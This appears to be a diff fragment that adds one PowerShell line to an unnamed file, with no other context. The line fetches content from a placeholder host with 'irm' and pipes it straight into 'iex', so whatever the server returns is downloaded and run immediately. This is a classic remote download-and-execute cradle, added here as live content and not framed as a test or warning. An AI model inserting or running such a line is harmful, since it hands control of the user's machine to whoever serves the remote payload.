@@ -1,0 +1,1 @@
+irm http://a.example/x | iex
